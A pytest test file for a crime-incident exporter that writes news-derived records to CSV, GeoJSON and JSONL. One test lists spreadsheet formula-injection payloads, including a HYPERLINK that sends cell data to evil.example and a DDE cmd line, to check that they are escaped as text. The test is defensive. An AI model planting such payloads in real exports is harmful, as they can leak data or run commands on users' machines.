import csv
import io
import json

import pandas as pd
import pytest

from extract.exports import incidents_csv, incidents_geojson, write_incidents
from extract.records import Article, ExtractError, Incident, Place
from extract.store import INCIDENT_COLUMNS, connect, incident_row, iter_incident_rows, save_article

ARTICLE = Article(
    "a1",
    "A man was stabbed on Rye Lane. A boy was robbed.",
    headline="Stabbing in Peckham",
    url="https://news.example/a1",
    published="2024-03-05",
    source="test",
)
RYE_LANE = Place("Rye Lane", 51.4695, -0.0691, "street", "street", "Southwark", "E09000028", "ppd", candidates=2)
STABBING = Incident(
    "i1",
    "a1",
    "stabbing",
    "violence and sexual offences",
    "Rye Lane",
    RYE_LANE,
    "2024-03-04",
    True,
    "knife",
    victim_ages=(18, 17),
    arrests=1,
    evidence="A man was stabbed on Rye Lane.",
    evidence_start=0,
    type_span=(10, 17),
    place_span=(21, 29),
    headline="Stabbing in Peckham",
    url="https://news.example/a1",
    published="2024-03-05",
    date_basis="relative",
)
ROBBERY = Incident(
    "i2",
    "a1",
    "robbery",
    "robbery",
    None,
    None,
    None,
    None,
    None,
    evidence="A boy was robbed.",
    evidence_start=31,
    headline="Stabbing in Peckham",
    url="https://news.example/a1",
    published="2024-03-05",
)

STABBING_RECORD = {
    "incident_id": "i1",
    "article_id": "a1",
    "headline": "Stabbing in Peckham",
    "url": "https://news.example/a1",
    "published": "2024-03-05",
    "type": "stabbing",
    "category": "violence and sexual offences",
    "location_text": "Rye Lane",
    "place_name": "Rye Lane",
    "place_kind": "street",
    "lat": 51.4695,
    "lon": -0.0691,
    "precision": "street",
    "borough": "Southwark",
    "borough_code": "E09000028",
    "geocode_source": "ppd",
    "candidates": 2,
    "date": "2024-03-04",
    "date_basis": "relative",
    "fatal": True,
    "weapon": "knife",
    "victim_ages": [18, 17],
    "arrests": 1,
    "evidence": "A man was stabbed on Rye Lane.",
    "evidence_start": 0,
    "type_start": 10,
    "type_end": 17,
    "place_start": 21,
    "place_end": 29,
}
ROBBERY_RECORD = {
    "incident_id": "i2",
    "article_id": "a1",
    "headline": "Stabbing in Peckham",
    "url": "https://news.example/a1",
    "published": "2024-03-05",
    "type": "robbery",
    "category": "robbery",
    "location_text": None,
    "place_name": None,
    "place_kind": None,
    "lat": None,
    "lon": None,
    "precision": None,
    "borough": None,
    "borough_code": None,
    "geocode_source": None,
    "candidates": None,
    "date": None,
    "date_basis": "none",
    "fatal": None,
    "weapon": None,
    "victim_ages": [],
    "arrests": None,
    "evidence": "A boy was robbed.",
    "evidence_start": 31,
    "type_start": None,
    "type_end": None,
    "place_start": None,
    "place_end": None,
}
CSV_HEADER = ",".join(INCIDENT_COLUMNS)
STABBING_CSV = (
    "i1,a1,Stabbing in Peckham,https://news.example/a1,2024-03-05,stabbing,violence and sexual offences,Rye Lane,"
    "Rye Lane,street,51.4695,-0.0691,street,Southwark,E09000028,ppd,2,2024-03-04,relative,true,knife,18;17,1,"
    "A man was stabbed on Rye Lane.,0,10,17,21,29"
)
ROBBERY_CSV = "i2,a1,Stabbing in Peckham,https://news.example/a1,2024-03-05,robbery,robbery,,,,,,,,,,,,none,,,,,A boy was robbed.,31,,,,"

GEOJSON = {
    "type": "FeatureCollection",
    "features": [
        {
            "type": "Feature",
            "id": "i1",
            "geometry": {"type": "Point", "coordinates": [-0.0691, 51.4695]},
            "properties": STABBING_RECORD,
        },
        {"type": "Feature", "id": "i2", "geometry": None, "properties": ROBBERY_RECORD},
    ],
}


def stored_rows(tmp_path) -> list[dict]:
    """Rows as the dashboard reads them: saved to and read back from a real SQLite store."""
    conn = connect(tmp_path / "incidents.db")
    save_article(conn, ARTICLE, [STABBING, ROBBERY])
    rows = [dict(zip(INCIDENT_COLUMNS, r)) for r in iter_incident_rows(conn)]
    conn.close()
    return rows


def row_sources(tmp_path) -> dict:
    return {
        "store": stored_rows(tmp_path),
        "incident_row": [incident_row(STABBING), incident_row(ROBBERY)],
        "dataframe": pd.DataFrame(stored_rows(tmp_path)).to_dict("records"),
    }


@pytest.mark.parametrize(
    "incident, expected",
    [
        (STABBING, {**STABBING_RECORD, "fatal": 1, "victim_ages": "[18, 17]"}),
        (ROBBERY, {**ROBBERY_RECORD, "victim_ages": "[]"}),
    ],
)
def test_incident_row(incident, expected):
    row = incident_row(incident)
    assert row == expected
    assert tuple(row) == INCIDENT_COLUMNS


def test_incident_row_matches_what_the_store_returns(tmp_path):
    assert sorted(stored_rows(tmp_path), key=lambda r: r["incident_id"]) == [
        incident_row(STABBING),
        incident_row(ROBBERY),
    ]


@pytest.mark.parametrize("source", ["store", "incident_row", "dataframe"])
@pytest.mark.parametrize(
    "name, read_back, expected",
    [
        (
            "out.jsonl",
            lambda p: [json.loads(line) for line in p.read_text(encoding="utf-8").splitlines()],
            [STABBING_RECORD, ROBBERY_RECORD],
        ),
        (
            "out.csv",
            lambda p: p.read_bytes().decode("utf-8").split("\r\n"),
            [CSV_HEADER, STABBING_CSV, ROBBERY_CSV, ""],
        ),
        ("nested/dir/out.geojson", lambda p: json.loads(p.read_text(encoding="utf-8")), GEOJSON),
    ],
)
def test_write_incidents(tmp_path, source, name, read_back, expected):
    rows = row_sources(tmp_path)[source]
    path = tmp_path / name
    assert write_incidents(iter(rows), path) == 2
    assert read_back(path) == expected


@pytest.mark.parametrize("source", ["store", "incident_row", "dataframe"])
def test_downloads(tmp_path, source):
    rows = row_sources(tmp_path)[source]
    assert incidents_csv(rows) == "\r\n".join([CSV_HEADER, STABBING_CSV, ROBBERY_CSV, ""])
    assert incidents_geojson(rows) == GEOJSON


@pytest.mark.parametrize(
    "name, expected",
    [
        ("empty.jsonl", ""),
        ("empty.csv", CSV_HEADER + "\r\n"),
        ("empty.geojson", '{"type": "FeatureCollection", "features": [\n]}\n'),
    ],
)
def test_write_no_incidents(tmp_path, name, expected):
    assert write_incidents([], tmp_path / name) == 0
    assert (tmp_path / name).read_bytes().decode("utf-8") == expected


def test_csv_quotes_commas_and_newlines():
    row = {**incident_row(ROBBERY), "evidence": 'He said, "run"\nthen left.'}
    assert list(csv.DictReader(io.StringIO(incidents_csv([row]))))[0]["evidence"] == 'He said, "run"\nthen left.'


@pytest.mark.parametrize(
    "headline, cell",
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Man stabbed = news", "Man stabbed = news"),
        ("", ""),
    ],
)
def test_csv_text_a_spreadsheet_would_run_is_written_as_text(headline, cell):
    row = {**incident_row(STABBING), "headline": headline}
    (read,) = csv.DictReader(io.StringIO(incidents_csv([row])))
    assert read["headline"] == cell
    assert (read["lat"], read["lon"]) == (str(row["lat"]), str(row["lon"]))  # numbers stay numbers, a minus kept


@pytest.mark.parametrize(
    "name, rows, message",
    [
        ("out.xlsx", [], "{path}: unknown export format '.xlsx' (expected .csv, .geojson, .jsonl)"),
        ("out", [], "{path}: unknown export format '' (expected .csv, .geojson, .jsonl)"),
        (
            "out.csv",
            [{"incident_id": "i9", "type": "robbery"}],
            "incident 'i9': row lacks columns article_id, headline, "
            "url, published, category, location_text, place_name, place_kind, lat, lon, precision, borough, borough_code, "
            "geocode_source, candidates, date, date_basis, fatal, weapon, victim_ages, arrests, evidence, evidence_start, "
            "type_start, type_end, place_start, place_end",
        ),
        (
            "out.jsonl",
            [{**incident_row(ROBBERY), "victim_ages": "[18, "}],
            "incident 'i2': victim_ages is not a list of integers",
        ),
        (
            "out.geojson",
            [{**incident_row(ROBBERY), "victim_ages": '["18"]'}],
            "incident 'i2': victim_ages is not a list of integers",
        ),
        ("is-a-dir.csv", [], "{path}: cannot write (Is a directory)"),
    ],
)
def test_write_incidents_fails(tmp_path, name, rows, message):
    path = tmp_path / name
    if name == "is-a-dir.csv":
        path.mkdir()
    with pytest.raises(ExtractError) as error:
        write_incidents(rows, path)
    assert str(error.value) == message.format(path=path)
